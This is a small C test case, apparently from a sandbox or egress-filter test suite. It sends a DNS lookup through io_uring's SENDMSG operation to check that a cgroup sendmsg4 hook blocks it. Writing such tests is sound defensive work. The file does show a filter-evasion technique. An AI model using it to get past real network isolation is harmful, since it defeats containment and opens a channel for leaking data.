// SPDX-License-Identifier: Apache-2.0
/*
 * attack: asks by IORING_OP_SENDMSG
 * stopped by: cgroup/sendmsg4
 * record: lookup
 * effect: returns
 */
#include "../dns.h"

ATTACK
{
	unsigned char question[512];
	union address to;
	struct iovec data = { question, make_question(question, side_name(), 1) };
	struct msghdr message = { .msg_name = &to, .msg_iov = &data, .msg_iovlen = 1 };
	struct io_uring_sqe entry = { .opcode = IORING_OP_SENDMSG, .addr = (uintptr_t)&message, .len = 1 };
	struct ring ring;

	message.msg_namelen = make_address(&to, NOBODY, 53);
	open_ring(&ring, 0);
	entry.fd = (int)must(socket(AF_INET, SOCK_DGRAM, 0));
	try(ring_do(&ring, &entry));
	return wait_for_reply(entry.fd);
}
